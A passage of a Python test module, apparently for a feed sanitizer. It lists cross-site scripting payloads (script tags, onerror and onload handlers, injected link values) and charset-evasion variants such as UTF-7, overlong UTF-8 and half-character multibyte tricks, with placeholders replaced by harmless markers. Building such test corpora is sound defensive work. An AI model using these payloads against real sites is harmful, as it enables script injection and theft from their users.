    "https://x.test/><script>HOOK</script>",
    '"><img src=x onerror=HOOK>',
    "//x.test/<svg onload=HOOK>",
)
URLS = tuple(Payload(url, url, dead=url in _DEAD_URLS) for url in _LIVE_URLS + _DEAD_URLS)
"""Where a feed says a link: of the entry, its image, its file, its comments, its author."""

ENCODED = {
    "UTF-7 declared": (b"utf-7", b"+ADw-img src=x onerror=HOOK+AD4-&lt;img src=x onerror=HOOK>"),
    "overlong UTF-8": (b"utf-8", b"\xc0\xbcimg src=x onerror=HOOK\xc0\xbe &lt;img onclick=HOOK>x"),
    "overlong UTF-8 of three": (b"utf-8", b"\xe0\x80\xbcimg src=x onerror=HOOK\xe0\x80\xbe"),
    "half a character in a value": (b"utf-8", b'&lt;b title="\xc3"> onclick=HOOK &lt;/b>'),
    "half a character in Shift_JIS": (b"shift_jis", b'&lt;b title="\x81" x=" onclick=HOOK a="">'),
    "half a character in GBK": (b"gbk", b'&lt;b title="\xbf" x=" onclick=HOOK a=""\xbf'),
    "half a character in Big5": (b"big5", b'&lt;b title="\xa1\\" onclick=HOOK a="">x'),
    "half a character in EUC-KR": (b"euc-kr", b'&lt;b title="\xa1" x=" onclick=HOOK a="">x'),
    "escapes of ISO-2022-JP": (b"iso-2022-jp", b'&lt;b title="\x1b$B" onclick=HOOK \x1b(B">x'),
    "escapes of HZ": (b"hz-gb-2312", b'&lt;b title="~{" onclick=HOOK ~}">x'),
    "US-ASCII with the eighth bit": (b"us-ascii", b"\xbcscript\xbeHOOK\xbc/script\xbe"),
    "UTF-16 said of ASCII": (b"utf-16", b"&lt;img src=x onerror=HOOK>"),
    "UTF-32 said of ASCII": (b"utf-32", b"&lt;img src=x onerror=HOOK>"),
    "x-user-defined": (b"x-user-defined", b"&lt;img src=x onerror=HOOK \xf7\xa2>"),
    "NULs between": (b"utf-8", b"&lt;\0s\0c\0r\0i\0p\0t>HOOK&lt;\0/\0script>"),
}  # fmt: skip
"""Bytes of a feed's description, and the encoding that its declaration says."""


def made(text: str, number: int) -> str:
    """`text` with its words in capitals replaced for the payload of that number."""
    post = f"top.postMessage({number},`*`)"
    for word, what in (
        ("B64POST", _base64(f"<script>{post}</script>")),
        ("BASE64", _base64(f"pwned({number})")),
        ("POST", post),
        ("HOOK", f"pwned({number})"),
        ("CANARY", f"https://canary.test/{number}"),
        ("CLOBBER", f"clobber{number}"),
        ("NUMBER", str(number)),
    ):
        text = text.replace(word, what)
    return text


def _base64(text: str) -> str:
    return b64encode(text.encode()).decode()
